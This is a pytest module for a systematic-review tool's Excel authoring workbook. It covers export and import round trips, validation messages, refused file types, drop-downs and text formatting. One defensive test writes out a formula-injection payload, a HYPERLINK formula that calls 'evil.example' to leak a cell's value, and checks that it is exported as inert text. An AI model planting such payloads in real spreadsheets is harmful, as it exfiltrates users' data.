"""The authoring workbook: export, import, and every way an edited workbook can go wrong.

Everything happens in temporary copies; openpyxl stands in for the author.
"""

from __future__ import annotations

import datetime
import json
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from peerwork_review.authoring.importing import import_workbook
from peerwork_review.authoring.workbook import LISTS_SHEET, SheetLayout, is_number_field, layouts, write_workbook
from peerwork_review.cli import main
from peerwork_review.domain.prisma import STAGES, SUMS
from peerwork_review.errors import DataError
from peerwork_review.model.review import load
from peerwork_review.reading.load import read_descriptor
from tests import scenarios
from tests.helpers import append, copy_project, read_rows, set_cell, tree_hash
from tests.scenarios import TEST
from tests.test_updating import REPORT, RUN, add_second_run

PARTS = ["data", "references.bib"]


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> Path:
    """The workbook of the shipped data, written once; tests edit copies of it."""
    root = copy_project(tmp_path_factory.mktemp("source") / "project", PARTS, frozen=True)
    return write_workbook(root, root / "artifacts" / "data.xlsx")


@pytest.fixture
def project(tmp_path) -> Path:
    return copy_project(tmp_path / "project", PARTS, frozen=True)


@pytest.fixture
def book(exported, tmp_path):
    """A fresh copy of the workbook, open for editing, and where to save it."""
    path = tmp_path / "edited.xlsx"
    shutil.copy(exported, path)
    return openpyxl.load_workbook(path), path


def snapshot(root: Path) -> tuple[str, bytes]:
    return tree_hash(root / "data"), (root / "references.bib").read_bytes()


def layout_of(root: Path, resource: str) -> SheetLayout:
    return next(lay for lay in layouts(read_descriptor(root / "data")) if lay.resource["name"] == resource)


def next_row(ws) -> int:
    """The first row below the data (formatted empty rows below it do not count)."""
    return max((c.row for c in ws["A"] if c.value is not None), default=1) + 1


def fill_sheet(ws, lay: SheetLayout, rows: list[list[str]]) -> None:
    """Write CSV rows (header first) into the sheet as an author would: numbers as numbers, the rest as text."""
    header, body = rows[0], rows[1:]
    for row in range(2, ws.max_row + 1):
        for cell in ws[row]:
            cell.value = None
    for row, values in enumerate(body, start=2):
        for index, spec in enumerate(lay.columns, start=1):
            value = values[header.index(spec["name"])]
            ws.cell(row=row, column=index).value = int(value) if value and is_number_field(spec) else (value or None)


def test_round_trip_without_edits_changes_no_byte(exported, project, capsys):
    before = snapshot(project)
    assert main(["--root", str(project), "import", str(exported)]) == 0
    assert snapshot(project) == before
    assert "nothing was changed" in capsys.readouterr().out


def test_an_added_run_and_study_import_like_the_csv_route(exported, project, tmp_path):
    """Rows typed into the workbook give data/ byte for byte what the CSV route gives, and it validates."""
    by_hand = copy_project(tmp_path / "csv-route", PARTS, frozen=True)
    add_second_run(by_hand)
    wb = openpyxl.load_workbook(exported)
    changed = []
    for path in sorted((by_hand / "data").glob("*.csv")):
        if path.read_bytes() != (project / "data" / path.name).read_bytes():
            lay = next(lay for lay in layouts(read_descriptor(project / "data")) if lay.resource["path"] == path.name)
            fill_sheet(wb[lay.sheet], lay, read_rows(path))
            changed.append(lay.sheet)
    references = wb["new references"]
    references.append(
        [
            "testauthor2026peer",
            "article",
            "Testauthor, Alex and Example, Sam",
            "2026",
            "A Test-Data Study of Peer Worker Induction & Support",
            "Journal of Test Data",
            "1",
            "",
            "1-10",
            "",
            "",
            "",
        ]
    )
    edited = tmp_path / "edited.xlsx"
    wb.save(edited)
    bib_before = (project / "references.bib").read_bytes()
    lines = import_workbook(project, edited)
    for path in (by_hand / "data").glob("*.csv"):
        assert (project / "data" / path.name).read_bytes() == path.read_bytes(), path.name
    bib = (project / "references.bib").read_bytes()
    assert bib.startswith(bib_before) and b"@article{testauthor2026peer," in bib
    assert b"pages   = {1--10}" in bib and b"Induction \\& Support" in bib
    text = "\n".join(lines)
    assert all(f"(sheet '{name}')" in text for name in changed)
    assert "+ testauthor2026\n" in text and "references.bib: 1 entry added: testauthor2026peer" in text
    review = load(project)
    assert REPORT in set(review.reports["report_id"])


def _fill_from(wb, project: Path, by_hand: Path) -> None:
    """Type into the workbook every table the CSV route changed in ``by_hand``, a copy of ``project``."""
    for path in sorted((by_hand / "data").glob("*.csv")):
        if path.read_bytes() != (project / "data" / path.name).read_bytes():
            lay = next(lay for lay in layouts(read_descriptor(project / "data")) if lay.resource["path"] == path.name)
            fill_sheet(wb[lay.sheet], lay, read_rows(path))


def _reference(key: str, author: str, year: str) -> list[str]:
    return [key, "article", author, year, "A Test-Data Paper", "Journal of Test Data", "1", "", "1-10", "", "", ""]


ROUNDS = [
    # a run with a new study
    (lambda root: add_second_run(root), [_reference(REPORT, "Testauthor, Alex and Example, Sam", "2026")]),
    # a run that finds a follow-up paper of an original study
    (
        lambda root: (
            scenarios.add_run(root, "2100-06", "Second update (test data)", "2100-01", "2100-06", 1),
            append(root, "reports.csv", ["testfollowup2100", "berry2011", "additional", "2100-06", "", TEST]),
        ),
        [_reference("testfollowup2100", "Testfollowup, Alex", "2100")],
    ),
    # a run that withdraws one study and corrects a value of another
    (
        lambda root: (
            scenarios.add_run(root, "2101-01", "Third update (test data)", "2100-07", "2101-01", 0),
            scenarios.withdraw(root, "franke2010", "2101-01"),
            scenarios.correct(
                root, "studies.csv", {"study_id": "berry2011"}, "sample_size", "5", "2101-01", "test: recounted"
            ),
        ),
        [],
    ),
]


@pytest.mark.slow
def test_three_workbook_rounds_in_a_row(project, tmp_path, capsys):
    """Each round writes the workbook (replacing the last, imported one), edits and imports it; imported
    again, the same workbook changes nothing, its new references included."""
    path = project / "artifacts" / "data.xlsx"
    for number, (edit, references) in enumerate(ROUNDS, start=1):
        assert main(["--root", str(project), "workbook", "--out", str(path)]) == 0, capsys.readouterr().err
        by_hand = copy_project(tmp_path / f"round-{number}", PARTS)
        shutil.rmtree(by_hand / "data")
        shutil.copytree(project / "data", by_hand / "data")
        edit(by_hand)
        wb = openpyxl.load_workbook(path)
        _fill_from(wb, project, by_hand)
        for row in references:
            wb["new references"].append(row)
        wb.save(path)
        capsys.readouterr()
        assert main(["--root", str(project), "import", str(path)]) == 0, capsys.readouterr().err
        assert "What changed:" in capsys.readouterr().out
        before = snapshot(project)
        assert main(["--root", str(project), "import", str(path)]) == 0, capsys.readouterr().err
        assert "nothing was changed" in capsys.readouterr().out and snapshot(project) == before
    review = load(project)
    assert review.run_ids[-3:] == [RUN, "2100-06", "2101-01"]
    assert len(review.studies) == 16 and len(review.published.studies) == 16  # one added, one withdrawn
    assert "testfollowup2100" in review.study_reports("berry2011")


def test_a_new_reference_that_differs_from_references_bib_is_refused(book, project):
    wb, path = book
    wb["new references"].append(_reference("berry2011another", "Berry, C.", "2011"))
    wb.save(path)
    with pytest.raises(DataError) as caught:
        import_workbook(project, path)
    assert "'berry2011another' is already a key in references.bib, whose entry differs in" in str(caught.value)


def test_a_changed_value_is_reported_old_to_new(book, project):
    wb, path = book
    wb["studies"]["I2"] = 5  # sample_size of the first study (row 2); sample_size_source stays
    wb["studies"]["J2"] = "test data: tests/test_workbook.py"
    wb.save(path)
    old = read_rows(project / "data" / "studies.csv")[1][8]
    lines = import_workbook(project, path)
    assert f"sample_size changed from '{old}' to '5'" in "\n".join(lines)


@pytest.mark.slow  # writes the workbook three times
def test_make_workbook_never_overwrites_edits_not_yet_imported(project, capsys):
    path = project / "artifacts" / "data.xlsx"
    assert main(["--root", str(project), "workbook", "--out", str(path)]) == 0
    assert main(["--root", str(project), "workbook", "--out", str(path)]) == 0  # nothing to lose: replaced
    wb = openpyxl.load_workbook(path)
    wb["search_runs"]["B2"] = "An edited label"
    wb.save(path)
    edited = path.read_bytes()
    assert main(["--root", str(project), "workbook", "--out", str(path)]) == 1
    assert "holds edits that are not in data/ yet" in capsys.readouterr().err
    assert path.read_bytes() == edited


def test_validator_problems_name_sheet_row_and_column(book, project):
    wb, path = book
    ws = wb["studies"]
    ws.insert_rows(3)  # a blank row: the next study now sits one row lower in the sheet than in the file
    ws["C4"] = "Qualitative"  # design of the second study
    wb.save(path)
    before = snapshot(project)
    with pytest.raises(DataError) as error:
        import_workbook(project, path)
    assert "sheet 'studies', row 4, column \"design\": 'Qualitative' is not an allowed value" in str(error.value)
    assert snapshot(project) == before


def _break(wb, path: Path, how: str) -> Path:
    ws = wb["search_runs"]
    if how == "missing sheet":
        del wb["study_countries"]
    elif how == "renamed header":
        wb["studies"]["C1"] = "Design"
    elif how == "formula":
        wb["studies"]["I2"] = "=2+2"
    elif how == "merged cell":
        wb["studies"].merge_cells("E2:F2")
    elif how == "date where text belongs":
        ws["C2"] = datetime.datetime(1980, 1, 1)
    elif how == "number where text belongs":
        ws["A2"] = 2023
    elif how == "formula as text":
        ws["B2"] = "=1+1"
        ws["B2"].data_type = "s"
    elif how == "stray cell at the last row":
        wb["studies"]["A1048576"] = "x"
    wb.save(path)
    return path


BROKEN = {
    "missing sheet": "sheet 'study_countries': the sheet is missing",
    "renamed header": "sheet 'studies', row 1, column \"Design\": this header should be 'design'",
    "formula": "sheet 'studies', row 2, column \"sample_size\": holds a formula (=2+2)",
    "merged cell": "sheet 'studies': cells E2:F2 are merged",
    "date where text belongs": "sheet 'search_runs', row 2, column \"date_start\": holds a date (1980-01-01) where text belongs",
    "number where text belongs": "sheet 'search_runs', row 2, column \"search_run_id\": holds a number (2023) where text belongs",
    "formula as text": "sheet 'search_runs', row 2, column \"label\": '=1+1' starts with '='",
    "stray cell at the last row": "sheet 'studies': its cells reach",
}


@pytest.mark.parametrize("how", BROKEN)
def test_a_broken_workbook_gets_one_clear_error_and_writes_nothing(book, project, how, capsys):
    path = _break(*book, how)
    before = snapshot(project)
    assert main(["--root", str(project), "import", str(path)]) == 1
    err = capsys.readouterr().err
    assert "1 problem in the data:" in err and BROKEN[how] in err, err
    assert snapshot(project) == before


def _ods(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office:document-content/>")


@pytest.mark.parametrize(
    "name, make, expected",
    [
        (
            "old.xls",
            lambda p: p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
            "old-style Excel .xls file",
        ),
        ("sheet.ods", _ods, "OpenDocument spreadsheet (.ods)"),
        ("notes.xlsx", lambda p: p.write_text("study_id,design\n", encoding="utf-8"), "is not a spreadsheet workbook"),
    ],
)
def test_a_file_that_is_not_an_xlsx_workbook_is_refused(project, tmp_path, name, make, expected, capsys):
    path = tmp_path / name
    make(path)
    before = snapshot(project)
    assert main(["--root", str(project), "import", str(path)]) == 1
    err = capsys.readouterr().err
    assert expected in err
    if name != "notes.xlsx":
        assert "save it as an Excel workbook (.xlsx)" in err
    assert snapshot(project) == before


def test_a_bad_new_reference_is_reported_with_its_fix(book, project):
    wb, path = book
    ws = wb["new references"]
    ws.append(
        [
            "smith2026peer",
            "article",
            "Smith, J.",
            "2026",
            "A title",
            "A Journal",
            "",
            "",
            "",
            "https://doi.org/10.1000/xyz",
            "",
            "",
        ]
    )
    assert ws.max_row == 2
    wb.save(path)
    before = snapshot(project)
    with pytest.raises(DataError) as error:
        import_workbook(project, path)
    assert "sheet 'new references', row 2, column \"DOI\"" in str(error.value)
    assert "write '10.1000/xyz'" in str(error.value)
    assert snapshot(project) == before


def test_drop_down_lists_hold_the_enums_and_the_current_keys(exported):
    wb = openpyxl.load_workbook(exported)
    root = exported.parents[1]
    descriptor = read_descriptor(root / "data")
    sheets = {lay.resource["name"]: lay for lay in layouts(descriptor)}

    def listed(formula: str) -> list[str]:
        sheet, cells = formula.rsplit("!", 1)
        return [c.value for row in wb[sheet.strip("'")][cells.replace("$", "")] for c in row if c.value is not None]

    def validation(lay, field):
        letter = lay.letter(field)
        found = [dv for dv in wb[lay.sheet].data_validations.dataValidation if f"{letter}2:" in str(dv.sqref)]
        assert len(found) == 1, (lay.sheet, field)
        last = int(str(found[0].sqref).rsplit(letter, 1)[1])
        assert last >= len(read_rows(root / "data" / lay.resource["path"])) + 100  # far into the rows for new data
        return found[0]

    enums = fks = 0
    for lay in sheets.values():
        for spec in lay.columns:
            if "enum" in spec.get("constraints", {}):
                dv = validation(lay, spec["name"])
                assert dv.formula1.startswith(f"'{LISTS_SHEET}'!")
                assert listed(dv.formula1) == spec["constraints"]["enum"]
                enums += 1
        for fk in lay.resource["schema"].get("foreignKeys", []):
            if len(fk["fields"]) == 1:
                target = sheets[fk["reference"]["resource"]]
                dv = validation(lay, fk["fields"][0])
                column = read_rows(root / "data" / target.resource["path"])[0].index(fk["reference"]["fields"][0])
                keys = [r[column] for r in read_rows(root / "data" / target.resource["path"])[1:]]
                assert dv.formula1.startswith(f"'{target.sheet}'!")
                assert [str(v) for v in listed(dv.formula1)] == keys  # live: the key column itself
                fks += 1
    assert wb[LISTS_SHEET].sheet_state == "hidden"
    assert enums >= 5 and fks >= 8  # countries, designs, ratings, roles, themes...; runs, studies, reports...


def test_text_columns_are_formatted_as_text_so_no_program_converts_them(exported):
    wb = openpyxl.load_workbook(exported)
    for lay in layouts(read_descriptor(exported.parents[1] / "data")):
        ws = wb[lay.sheet]
        for index, spec in enumerate(lay.columns, start=1):
            if is_number_field(spec):
                continue
            assert ws.column_dimensions[lay.letter(spec["name"])].number_format == "@"  # what new cells take
            cells = [ws.cell(row=row, column=index) for row in range(2, ws.max_row + 1)]
            assert all(c.number_format == "@" for c in cells), (lay.sheet, spec["name"])
            assert all(isinstance(c.value, str) for c in cells if c.value is not None), (lay.sheet, spec["name"])


def test_headers_carry_their_descriptions_and_stay_in_view(exported):
    wb = openpyxl.load_workbook(exported)
    for lay in layouts(read_descriptor(exported.parents[1] / "data")):
        ws = wb[lay.sheet]
        assert ws.freeze_panes in ("A2", "B2")
        for index, spec in enumerate(lay.columns, start=1):
            assert ws.cell(row=1, column=index).comment.text.startswith(spec["description"])
        names = [c["name"] for c in lay.columns]
        for name in names:
            if name.endswith("_source") and name[: -len("_source")] in names:
                assert names.index(name) == names.index(name[: -len("_source")]) + 1


@pytest.mark.slow  # writes, reads and imports a whole workbook
def test_a_new_table_in_datapackage_json_gets_its_sheet_without_code_changes(project, tmp_path):
    """A resource another engineer adds (here a made-up one) gets a sheet, drop-downs and a byte-exact round trip."""
    descriptor_path = project / "data" / "datapackage.json"
    descriptor = json.loads(descriptor_path.read_text(encoding="utf-8"))
    descriptor["resources"].append(
        {
            "name": "exclusion_reasons",
            "path": "exclusion_reasons.csv",
            "profile": "tabular-data-resource",  # the package is a tabular data package (Frictionless checks it)
            "title": "Exclusion reasons",
            "description": "A made-up table of tests/test_workbook.py.",
            "schema": {
                "fields": [
                    {
                        "name": "search_run_id",
                        "type": "string",
                        "description": "The run.",
                        "constraints": {"required": True},
                        "provenance": "key",
                    },
                    {
                        "name": "reason",
                        "type": "string",
                        "description": "Why.",
                        "constraints": {"required": True, "enum": ["wrong design", "wrong setting"]},
                        "provenance": "source",
                    },
                    {"name": "reports", "type": "integer", "description": "How many.", "provenance": "source"},
                    {
                        "name": "source",
                        "type": "string",
                        "description": "Where from.",
                        "constraints": {"required": True},
                        "provenance": "self",
                    },
                ],
                "primaryKey": ["search_run_id", "reason"],
                "foreignKeys": [
                    {"fields": ["search_run_id"], "reference": {"resource": "search_runs", "fields": ["search_run_id"]}}
                ],
            },
        }
    )
    descriptor_path.write_text(json.dumps(descriptor, indent=2) + "\n", encoding="utf-8")
    (project / "data" / "exclusion_reasons.csv").write_text(
        "search_run_id,reason,reports,source\n2023,wrong design,2,test data: tests/test_workbook.py\n", encoding="utf-8"
    )
    before = snapshot(project)
    path = write_workbook(project, tmp_path / "new-table.xlsx")
    wb = openpyxl.load_workbook(path)
    ws = wb["exclusion_reasons"]
    assert [c.value for c in ws[1]] == ["search_run_id", "reason", "reports", "source"]
    formulas = {str(dv.sqref).split(":")[0]: dv.formula1 for dv in ws.data_validations.dataValidation}
    assert formulas["A2"].startswith("'search_runs'!") and formulas["B2"].startswith(f"'{LISTS_SHEET}'!")
    assert import_workbook(project, path) == [] and snapshot(project) == before


@pytest.mark.parametrize("stated", SUMS, ids=lambda s: s.total)
def test_the_sums_the_flow_guide_shows_are_the_ones_the_validator_checks(project, stated):
    columns, total, parts = stated.columns, stated.total, stated.parts
    add_second_run(project)
    flow = read_rows(project / "data" / "prisma_flow.csv")
    part = next(stage for stage, sign in parts if sign < 0)
    for column in columns:
        assert total in STAGES[column] and part in STAGES[column]
        row = next(i for i, r in enumerate(flow) if r[:3] == [RUN, column, part]) + 1
        set_cell(project, "prisma_flow.csv", row, "count", str(int(flow[row - 1][3]) + 1))
        with pytest.raises(DataError) as error:
            load(project)
        assert f"{column}: {total} is" in str(error.value)
        set_cell(project, "prisma_flow.csv", row, "count", flow[row - 1][3])


def test_text_that_looks_like_a_formula_is_written_as_text(project, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"x")'
    set_cell(project, "studies.csv", 2, "setting", formula)
    wb = openpyxl.load_workbook(write_workbook(project, tmp_path / "out.xlsx"))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert formula in [c.value for c in cells]


def test_a_new_reference_the_bibliography_refuses_is_named_by_its_sheet_row(book, project):
    wb, path = book
    row = ["smith2026peer", "misc", "Smith, J.", "2026", "A title", "", "", "", "", "", "", "https://a.example/<b>"]
    wb["new references"].append(row)
    wb.save(path)
    with pytest.raises(DataError) as error:
        import_workbook(project, path)
    [problem] = error.value.problems
    assert (problem.file, problem.row) == ("sheet 'new references'", 2), problem
